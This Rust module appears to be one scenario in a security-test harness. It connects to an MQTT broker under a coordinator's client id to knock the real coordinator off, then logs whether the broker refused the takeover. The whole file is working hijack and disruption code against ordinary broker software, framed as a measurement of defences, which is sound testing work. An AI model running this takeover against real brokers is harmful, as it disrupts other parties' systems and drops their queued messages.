//! Client-id takeover: an MQTT broker drops a connection when another one arrives with the same
//! client id, so connecting as the coordinator pushes it off (and with a clean session, drops
//! what the broker queued for it). A broker that binds client ids to credentials refuses the
//! connection instead, and a coordinator under another id is not moved at all.
//!
//! A displaced coordinator reconnects within moments and pushes the attacker off in turn, or
//! its Last Will turns its status offline: either shows the takeover hit it. An attempt the
//! broker refused (`broker_refused`) or that displaced no one within the hold
//! (`coordinator_unmoved`) counts as rejected.

use std::time::Duration;

use rumqttc::{AsyncClient, Event, Packet};

use crate::ctx::{Beat, Ctx};
use crate::link::attacker_options;

/// How long a takeover connection stays, unless pushed off first.
const HOLD: Duration = Duration::from_secs(1);

/// Once a round (or every fifth beat while none opens): connect as the coordinator, hold the
/// connection briefly, disconnect.
pub async fn take_over(ctx: &mut Ctx, beat: &Beat) {
    if !beat.per_round() || ctx.stopped() {
        return;
    }
    let offline_before = ctx.view.read(|v| v.coordinator.offline_events);
    let options = attacker_options(&ctx.broker, &ctx.coordinator_id);
    let (client, mut eventloop) = AsyncClient::new(options, 16);
    ctx.extra_sent += 1;
    let accepted = tokio::time::timeout(Duration::from_secs(3), async {
        loop {
            match eventloop.poll().await {
                Ok(Event::Incoming(Packet::ConnAck(_))) => return true,
                Ok(_) => {}
                Err(_) => return false,
            }
        }
    })
    .await
    .unwrap_or(false);
    if !accepted {
        ctx.refused("broker_refused");
        return;
    }
    ctx.effect("connected_as_coordinator", 1);
    let pushed_back = tokio::time::timeout(HOLD, async { while eventloop.poll().await.is_ok() {} })
        .await
        .is_ok();
    let _ = client.try_disconnect();
    let _ = tokio::time::timeout(Duration::from_millis(200), eventloop.poll()).await;
    let will = ctx.view.read(|v| v.coordinator.offline_events) > offline_before;
    if pushed_back || will {
        ctx.effect("coordinator_displaced", 1);
    } else {
        ctx.refused("coordinator_unmoved");
    }
}
